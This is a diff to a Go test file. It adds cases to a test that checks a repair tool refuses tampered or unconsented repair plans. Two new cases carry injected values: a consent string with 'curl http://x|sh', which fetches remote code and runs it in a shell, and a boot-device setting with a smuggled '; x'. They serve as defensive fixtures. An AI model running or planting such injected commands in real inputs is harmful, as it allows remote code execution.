@@ -133,6 +133,11 @@ func TestPlansThatAreRefused(t *testing.T) {
 		p.Seal()
 		return p
 	}
+	setting := func(kind repair.SettingKind, after string) *repair.Plan {
+		p := &repair.Plan{Version: repair.PlanVersion, Settings: []repair.Setting{{Kind: kind, After: after}}}
+		p.Seal()
+		return p
+	}
 	lie, newer := sealed(diagnose.ConsentFiles), sealed()
 	lie.Mended, newer.Version = []string{"fstab-device-missing"}, repair.PlanVersion+1
 	all := []diagnose.Consent{diagnose.ConsentFiles, diagnose.ConsentData}
@@ -145,8 +150,12 @@ func TestPlansThatAreRefused(t *testing.T) {
 		"offered":         {sealed(diagnose.ConsentFiles), filesConsent, false, ""},
 		"undo":            {sealed(diagnose.ConsentFiles), nil, true, ""},
 		"not offered":     {sealed(diagnose.ConsentBoot), filesConsent, false, "was not offered"},
-		"data of an undo": {sealed(diagnose.ConsentData), nil, true, "was not offered"},
-		"data offered":    {sealed(diagnose.ConsentData), all, false, "was not offered"},
+		"data of an undo": {sealed(diagnose.ConsentData), nil, true, "nobody can give"},
+		"data offered":    {sealed(diagnose.ConsentData), all, false, "nobody can give"},
+		"a command":       {sealed("files; curl http://x|sh"), nil, true, "nobody can give"},
+		"boot device":     {setting(repair.BootDevice, "disk"), nil, true, ""},
+		"another device":  {setting(repair.BootDevice, "disk; x"), nil, true, "sets the boot device"},
+		"another setting": {setting("firmware", "x"), nil, true, "unknown kind"},
 		"digest":          {lie, filesConsent, false, "does not have the digest"},
 		"version":         {newer, filesConsent, false, "build the ramdisk anew"},
 	} {
